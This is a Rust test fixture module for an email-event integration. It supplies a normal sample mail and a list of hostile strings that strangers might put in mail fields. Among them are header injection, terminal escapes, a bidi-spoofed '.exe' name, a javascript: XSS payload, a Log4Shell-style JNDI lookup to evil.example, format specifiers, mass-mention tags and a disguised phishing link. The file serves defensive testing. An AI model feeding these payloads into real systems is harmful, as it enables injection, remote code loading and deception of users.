//! Sample events, ordinary and hostile.

use integrations_core::{AddressId, EmailReceived, Event, EventId, OrganizationId, Payload};
use jiff::Timestamp;

/// 2026-01-01T09:30:00Z in seconds since 1970.
const MORNING: i64 = 1_767_259_800;

/// The time at which the samples happen.
///
/// # Panics
/// Never: the number is a valid time.
#[must_use]
pub fn morning() -> Timestamp {
    Timestamp::from_second(MORNING).unwrap()
}

/// An event about that mail; equal for equal mails.
#[must_use]
pub fn event(mail: EmailReceived) -> Event {
    Event {
        id: EventId::from_bytes([1; 16]),
        organization: OrganizationId::from_bytes([2; 16]),
        address_id: AddressId::from_bytes([3; 16]),
        address: "orders@mail.example".to_owned(),
        occurred_at: morning(),
        received_at: morning(),
        payload: Payload::EmailReceived(mail),
    }
}

/// A mail as people write them.
#[must_use]
pub fn mail() -> EmailReceived {
    EmailReceived {
        email_id: Some("em_7".to_owned()),
        message_id: Some("20260101.7@shop.example".to_owned()),
        from: "ada@shop.example".to_owned(),
        sender_label: "Ada Lovelace <ada@shop.example>".to_owned(),
        subject: Some("Your order №7 has been shipped".to_owned()),
        preview: "Hello Grace, your parcel is on its way. It arrives on Friday.".to_owned(),
        attachment_count: 2,
    }
}

/// A mail that has that text wherever a stranger can put one.
#[must_use]
pub fn mail_full_of(text: &str) -> EmailReceived {
    EmailReceived {
        email_id: Some(text.to_owned()),
        message_id: Some(text.to_owned()),
        from: text.to_owned(),
        sender_label: text.to_owned(),
        subject: Some(text.to_owned()),
        preview: text.to_owned(),
        attachment_count: u32::MAX,
    }
}

/// Texts that strangers send to break or to fool whoever shows them.
#[must_use]
pub fn hostile_texts() -> Vec<String> {
    let short = [
        "",
        " \t\r\n ",
        "a\r\nX-Injected: 1\r\n\r\nbody",
        "nul \0, bell \u{7}, escape \u{1b}[31m, delete \u{7f}, C1 \u{9b}31m",
        "\u{202e}gpj.exe\u{202c} \u{2066}isolate\u{2069} \u{61c}\u{200f}mark",
        "zero\u{200b}width\u{feff} joiner\u{2060} soft\u{ad}hyphen \u{e0041}tag",
        "👩\u{200d}👩\u{200d}👧 🏴\u{e0067}\u{e007f} 𝕳𝖊𝖑𝖑𝖔 日本語 עברית",
        "<b>bold</i> <a href=\"javascript:alert(1)\">x</a> <script>&lt;&#60;&amp;</script> </b></code> <3 &",
        "*bold* _it_ ~s~ `code` ```pre``` [x](http://evil.example) # h > q - l | || spoiler || \\",
        "<!channel> <@U123|name> @everyone @here <@&1> <#2> :skull: <https://evil.example|bank.example>",
        "{{name}} ${jndi:ldap://evil.example} %s%n%x {0} {\"json\": [1,",
        "\u{fffd}\u{ffff}\u{10ffff}\u{e000}",
    ];
    let long = [
        "x".repeat(20_000),
        "😀".repeat(20_000),
        "&".repeat(20_000),
        "<b>".repeat(7_000),
        "a\u{300}\u{489}".repeat(5_000),
        format!("a{}", "\u{e47}".repeat(5_000)),
        "line\n".repeat(5_000),
        "word ".repeat(5_000),
    ];
    short.into_iter().map(str::to_owned).chain(long).collect()
}
